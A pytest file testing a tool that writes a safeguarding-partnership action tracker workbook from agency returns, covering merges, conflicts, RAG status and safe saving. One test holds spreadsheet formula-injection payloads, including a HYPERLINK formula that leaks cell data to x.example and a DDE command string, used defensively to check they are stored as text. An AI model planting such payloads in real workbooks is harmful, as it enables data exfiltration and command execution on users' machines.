"""The tracker end to end on real workbooks: rows from returns, the group's edits, safe writes."""

from __future__ import annotations

import datetime as dt
import hashlib
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.styles import PatternFill

from pipeline.errors import TrackerError
from pipeline.model import RawUpdate
from pipeline.tracker import service
from pipeline.tracker.plan import tracker_items
from pipeline.tracker.service import apply_returns
from pipeline.workspace import Workspace
from tests.tracker_helpers import TODAY, police_and_health, sheet_xml, stored_return, stored_update


def _rows(path: Path) -> dict[str, dict[str, object]]:
    """Tracker rows by Ref, values by header."""
    sheet = openpyxl.load_workbook(path)["Tracker"]
    headers = [c.value for c in sheet[1]]
    rows = {}
    for values in sheet.iter_rows(min_row=2, values_only=True):
        row = dict(zip(headers, values, strict=False))
        rows[str(row["Ref"])] = row
    return rows


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_rows_from_returns(workspace: Workspace) -> None:
    result = apply_returns(workspace, police_and_health(), [], today=TODAY)
    assert result.written and result.added == 3
    rows = _rows(workspace.tracker_path())
    assert sorted(rows) == ["DA26-CH-01", "DA26-POL-01", "DA26-POL-02"]
    police = rows["DA26-POL-01"]
    assert police["Recommendation or action"] == "Refresh DASH training for response officers"
    assert police["Lead agency"] == "Northshire Constabulary"
    assert police["Source"] == "Agency action"
    assert police["Audit"] == "domestic-abuse-2026"
    assert police["Target date"] == dt.datetime(2027, 6, 30)
    assert police["Status"] == "Not started"
    assert police["RAG"] == "Green"
    assert rows["DA26-POL-02"]["RAG"] == "Amber"  # due 1 March, 14 days after today
    assert rows["DA26-CH-01"]["RAG"] == "Red"  # due 31 January, not completed
    book = openpyxl.load_workbook(workspace.tracker_path())
    assert book.sheetnames == ["Tracker", "Summary", "Returns", "Log"]
    tracker = book["Tracker"]
    assert tracker.freeze_panes == "B2"
    assert tracker.auto_filter.ref == "A1:P4"
    assert tracker.page_setup.orientation == "landscape"
    assert tracker.print_title_rows == "$1:$1"
    assert next(v.formula1 for v in tracker.data_validations.dataValidation) == (
        '"Not started,In progress,Completed,Verified and closed"'
    )


def test_section_11_actions_are_marked(workspace: Workspace) -> None:
    s11 = stored_return(
        "probation", [("Check every case for children", "SPO", None)], audit="section11-2026"
    )
    apply_returns(workspace, [s11], [], today=TODAY)
    row = _rows(workspace.tracker_path())["S1126-PRO-01"]
    assert row["Source"] == "Section 11"
    assert row["Target date"] is None
    assert row["RAG"] == "Green"


def test_group_edits_survive_a_second_intake(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    book = openpyxl.load_workbook(path)
    sheet = book["Tracker"]
    headers = {c.value: c.column for c in sheet[1]}
    row = next(r for r in range(2, 5) if sheet.cell(r, 1).value == "DA26-POL-01")
    sheet.cell(row, headers["Status"], "In progress")
    sheet.cell(row, headers["Latest progress update"], "Half of the teams trained.")
    sheet.cell(row, headers["Owner"], "DCI New Owner")
    sheet.cell(row, headers["Theme or section"]).fill = PatternFill("solid", start_color="FFFF00")
    sheet.column_dimensions["E"].width = 71
    sheet.cell(5, headers["Recommendation or action"], "Partnership to review MARAC threshold")
    sheet.cell(5, headers["Audit"], "domestic-abuse-2026")
    sheet.cell(5, headers["Source"], "Partnership recommendation")
    book.save(path)

    more = [
        *police_and_health(),
        stored_return("csc", [("Dip sample strategy discussions", "QA", "2027-09-01")]),
    ]
    result = apply_returns(workspace, more, [], today=TODAY + dt.timedelta(days=1))
    assert result.written and result.conflicts == 0

    rows = _rows(path)
    police = rows["DA26-POL-01"]
    assert police["Status"] == "In progress"
    assert police["Latest progress update"] == "Half of the teams trained."
    assert police["Owner"] == "DCI New Owner"
    assert police["Last updated"] == dt.datetime(2027, 2, 16)
    assert (
        rows["DA26-REC-01"]["Recommendation or action"] == "Partnership to review MARAC threshold"
    )
    assert rows["DA26-REC-01"]["Status"] == "Not started"
    assert "DA26-CSC-01" in rows
    book = openpyxl.load_workbook(path)
    sheet = book["Tracker"]
    assert sheet.column_dimensions["E"].width == 71
    assert sheet.cell(row, headers["Theme or section"]).fill.start_color.rgb == "00FFFF00"
    assert [sheet.cell(r, 1).value for r in range(2, 7)] == [
        "DA26-POL-01",
        "DA26-POL-02",
        "DA26-CH-01",
        "DA26-REC-01",
        "DA26-CSC-01",
    ]
    log = [[c for c in r] for r in book["Log"].iter_rows(min_row=2, values_only=True)]
    assert any(r[1] == "DA26-REC-01" and r[3] == "ref given" for r in log)
    assert any(r[1] == "DA26-POL-01" and r[3] == "edited by the group" for r in log)


def test_conflict_keeps_the_group_value_and_is_logged(workspace: Workspace) -> None:
    first = police_and_health()
    apply_returns(workspace, first, [], today=TODAY)
    path = workspace.tracker_path()
    book = openpyxl.load_workbook(path)
    sheet = book["Tracker"]
    sheet["G2"] = "Owner the group chose"  # Owner column of DA26-POL-01
    book.save(path)
    resubmitted = [
        stored_return(
            "police",
            [
                (
                    "Refresh DASH training for response officers",
                    "Owner the return gives",
                    "2027-06-30",
                ),
                ("Audit MARAC referrals monthly", "DS Sample", "2027-03-01"),
            ],
            file_name="police-resubmitted.docx",
        ),
        first[1],
    ]
    result = apply_returns(workspace, resubmitted, [], today=TODAY)
    assert result.conflicts == 1
    assert _rows(path)["DA26-POL-01"]["Owner"] == "Owner the group chose"
    log = list(openpyxl.load_workbook(path)["Log"].iter_rows(min_row=2, values_only=True))
    conflict = next(r for r in log if r[3] == "conflict")
    assert conflict[1:3] == ("DA26-POL-01", "Owner")
    assert conflict[5] == "police-resubmitted.docx"
    assert "Owner the return gives" in conflict[4]
    # Logged once: the next run has nothing new to say.
    again = apply_returns(workspace, resubmitted, [], today=TODAY)
    assert again.conflicts == 0 and not again.written


def test_resubmission_changes_cells_nobody_touched(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    changed = stored_return(
        "police",
        [
            ("Refresh DASH training for response officers", "DI Example", "2027-08-31"),
            ("Audit MARAC referrals monthly", "DS Sample", "2027-03-01"),
        ],
    )
    result = apply_returns(workspace, [changed, police_and_health()[1]], [], today=TODAY)
    assert result.updated == 1 and result.added == 0
    assert _rows(workspace.tracker_path())["DA26-POL-01"]["Target date"] == dt.datetime(2027, 8, 31)


def test_rag_turns_red_without_anyone_touching_it(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    assert _rows(workspace.tracker_path())["DA26-POL-02"]["RAG"] == "Amber"
    apply_returns(workspace, police_and_health(), [], today=dt.date(2027, 3, 2))
    assert _rows(workspace.tracker_path())["DA26-POL-02"]["RAG"] == "Red"


FORMULAS = [
    '=HYPERLINK("http://x.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1+2",
    "@x",
    "\t=1",
    "#N/A",
    "=1",
]


def test_formula_strings_are_stored_as_text(workspace: Workspace) -> None:
    actions = [(text, text, None) for text in FORMULAS]
    apply_returns(workspace, [stored_return("housing", actions)], [], today=TODAY)
    path = workspace.tracker_path()
    xml = sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml
    book = openpyxl.load_workbook(path)
    sheet = book["Tracker"]
    texts = [sheet.cell(r, 5) for r in range(2, 2 + len(FORMULAS))]
    assert [c.value for c in texts] == FORMULAS
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    owners = [sheet.cell(r, 7).value for r in range(2, 2 + len(FORMULAS))]
    assert owners == FORMULAS


def test_characters_excel_forbids_are_replaced_and_noted(workspace: Workspace) -> None:
    text = "Plan agreed\ufffe with \x01 partners"
    result = apply_returns(
        workspace, [stored_return("housing", [(text, "", None)])], [], today=TODAY
    )
    assert result.written
    row = _rows(workspace.tracker_path())["DA26-HOU-01"]
    assert row["Recommendation or action"] == "Plan agreed\ufffd with \ufffd partners"
    notes = [e for e in result.changes if e.change == "text altered"]
    assert notes and "2 character(s)" in notes[0].detail
    assert text not in notes[0].detail


def test_long_text_is_cut_visibly(workspace: Workspace) -> None:
    text = "x" * 40_000
    result = apply_returns(
        workspace, [stored_return("housing", [(text, "", None)])], [], today=TODAY
    )
    value = _rows(workspace.tracker_path())["DA26-HOU-01"]["Recommendation or action"]
    assert isinstance(value, str) and len(value) == 32_767 and value.endswith("draft report]")
    assert any("cut to Excel's limit" in e.detail for e in result.changes)


def test_failed_save_leaves_the_old_tracker_byte_for_byte(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    before = _sha(path)
    listing = sorted(p.name for p in path.parent.iterdir())

    def broken_save(folder: Path, save: object, check: object) -> Path:
        def half_written(temp: Path) -> None:
            temp.write_bytes(b"PK\x03\x04 half a workbook")
            raise OSError("disk full")

        return real_save(folder, half_written, check)  # type: ignore[arg-type]

    real_save = service.save_to_temp
    monkeypatch.setattr(service, "save_to_temp", broken_save)
    more = [*police_and_health(), stored_return("csc", [("New action", "", None)])]
    with pytest.raises(TrackerError, match="left exactly as it was"):
        apply_returns(workspace, more, [], today=TODAY)
    assert _sha(path) == before
    assert sorted(p.name for p in path.parent.iterdir()) == listing
    monkeypatch.undo()
    result = apply_returns(workspace, more, [], today=TODAY)
    assert result.added == 1  # nothing was recorded as written by the failed attempt


def test_owner_file_defers_the_write_without_loss(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    before = _sha(path)
    owner = path.with_name("~$tracker.xlsx")
    owner.write_bytes(b"\x05Alice")
    more = [*police_and_health(), stored_return("csc", [("Dip sample", "QA", None)])]
    result = apply_returns(workspace, more, [], today=TODAY)
    assert result.deferred and not result.written
    assert result.path == path.with_name("tracker.pending.xlsx")
    assert "tracker.xlsx is open in Excel or LibreOffice (~$tracker.xlsx exists)" in result.message
    assert "tracker.pending.xlsx" in result.message
    assert _sha(path) == before
    assert "DA26-CSC-01" in _rows(result.path)
    owner.unlink()
    applied = apply_returns(workspace, more, [], today=TODAY)
    assert applied.written and applied.added == 1
    assert "DA26-CSC-01" in _rows(path)
    assert not result.path.exists()  # retired into the backups once applied


def test_libreoffice_lock_file_also_defers(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    path.with_name(".~lock.tracker.xlsx#").write_text("lock")
    result = apply_returns(
        workspace, [*police_and_health(), stored_return("csc", [("A", "", None)])], [], today=TODAY
    )
    assert result.deferred and ".~lock.tracker.xlsx#" in result.message


def test_a_picture_the_group_added_is_kept_through_an_update(
    workspace: Workspace, tmp_path: Path
) -> None:
    from openpyxl.drawing.image import Image

    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    png = tmp_path / "logo.png"
    _tiny_png(png)
    book = openpyxl.load_workbook(path)
    book["Tracker"].add_image(Image(str(png)), "R2")
    book.save(path)
    with zipfile.ZipFile(path) as package:
        picture = package.read("xl/media/image1.png")
        drawing = package.read("xl/drawings/drawing1.xml")
    result = apply_returns(
        workspace, [*police_and_health(), stored_return("csc", [("A", "", None)])], [], today=TODAY
    )
    assert result.written and result.added == 1
    with zipfile.ZipFile(path) as package:
        assert package.read("xl/media/image1.png") == picture
        assert package.read("xl/drawings/drawing1.xml") == drawing
        assert b"<drawing " in package.read("xl/worksheets/sheet1.xml")
    assert "DA26-CSC-01" in _rows(path)


def test_a_picture_is_never_dropped_when_the_tracker_sheet_must_be_remade(
    workspace: Workspace, tmp_path: Path
) -> None:
    from openpyxl.drawing.image import Image

    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    png = tmp_path / "logo.png"
    _tiny_png(png)
    book = openpyxl.load_workbook(path)
    book["Tracker"].title = "Actions"
    book["Actions"].add_image(Image(str(png)), "R2")
    book.save(path)
    before = _sha(path)
    result = apply_returns(
        workspace, [*police_and_health(), stored_return("csc", [("A", "", None)])], [], today=TODAY
    )
    assert result.deferred
    assert _sha(path) == before
    assert "a picture (xl/media/image1.png)" in result.message
    assert "kept tracker.xlsx exactly as it is" in result.message


def _tiny_png(path: Path) -> None:
    from PIL import Image as PILImage

    PILImage.new("RGB", (4, 4), "navy").save(path)


def test_backup_before_each_write(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    before = path.read_bytes()
    result = apply_returns(workspace, police_and_health(), [], today=dt.date(2027, 3, 5))
    assert result.backup is not None and result.backup.read_bytes() == before
    assert result.backup.parent.name == "tracker-backups"


def test_update_form_rows_change_status_and_close(workspace: Workspace) -> None:
    returns = police_and_health()
    apply_returns(workspace, returns, [], today=TODAY)
    update = stored_update(
        "police",
        [
            RawUpdate(
                "da26-pol-02", "completed", "All referrals audited", "Repeat referrals down", ""
            ),
            RawUpdate("DA26-POL-01", "In progress", "", "", "30/09/2027"),
            RawUpdate("DA26-CH-01", "Completed", "not ours", "", ""),
            RawUpdate("DA26-XX-99", "Completed", "", "", ""),
        ],
    )
    result = apply_returns(workspace, returns, [update], today=TODAY)
    rows = _rows(workspace.tracker_path())
    assert rows["DA26-POL-02"]["Status"] == "Completed"
    assert rows["DA26-POL-02"]["Latest progress update"] == "All referrals audited"
    assert rows["DA26-POL-02"]["Evidence of impact"] == "Repeat referrals down"
    assert rows["DA26-POL-02"]["Date closed"] == dt.datetime(2027, 2, 15)
    assert rows["DA26-POL-02"]["RAG"] == "Green"
    assert rows["DA26-POL-01"]["Revised target date"] == dt.datetime(2027, 9, 30)
    assert rows["DA26-CH-01"]["Status"] == "Not started"
    skipped = {(e.ref, e.change) for e in result.changes if e.change == "update not applied"}
    assert skipped == {("DA26-CH-01", "update not applied"), ("DA26-XX-99", "update not applied")}
    assert all(e.source == update.data.file_name for e in result.changes if e.ref == "DA26-POL-02")


def test_a_row_the_group_deleted_is_not_put_back(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    path = workspace.tracker_path()
    book = openpyxl.load_workbook(path)
    book["Tracker"].delete_rows(2)
    book.save(path)
    result = apply_returns(workspace, police_and_health(), [], today=TODAY)
    assert "DA26-POL-01" not in _rows(path)
    assert [e.change for e in result.changes if e.ref == "DA26-POL-01"] == [
        "row deleted by the group"
    ]


def test_unreadable_tracker_is_left_alone(workspace: Workspace) -> None:
    path = workspace.tracker_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"not a workbook")
    with pytest.raises(TrackerError, match="cannot be opened"):
        apply_returns(workspace, police_and_health(), [], today=TODAY)
    assert path.read_bytes() == b"not a workbook"


def test_tracker_items_include_the_group_rows(workspace: Workspace) -> None:
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    items = tracker_items(
        workspace, police_and_health(), [], audit_id="domestic-abuse-2026", today=TODAY
    )
    assert [i.ref for i in items] == ["DA26-POL-01", "DA26-POL-02", "DA26-CH-01"]
    assert items[2].rag == "Red" and items[0].target_date == "2027-06-30"


@pytest.mark.slow
def test_libreoffice_opens_the_tracker(workspace: Workspace, tmp_path: Path) -> None:
    from pipeline.convert import convert_with_libreoffice

    apply_returns(workspace, police_and_health(), [], today=TODAY)
    pdf = convert_with_libreoffice(workspace.tracker_path(), tmp_path / "pdf")
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "DA26-POL-01" in text
    assert "recommendations and actions summary" in text
    assert "Audit returns by agency" in text


def test_the_cycle_collector_is_left_as_it_was(workspace: Workspace) -> None:
    import gc

    assert gc.isenabled()
    apply_returns(workspace, police_and_health(), [], today=TODAY)
    assert gc.isenabled()
    gc.disable()
    try:
        apply_returns(workspace, police_and_health(), [], today=TODAY)
        assert not gc.isenabled()
    finally:
        gc.enable()
    workspace.tracker_path().write_bytes(b"not a workbook")
    with pytest.raises(TrackerError):
        apply_returns(workspace, police_and_health(), [], today=TODAY)
    assert gc.isenabled()
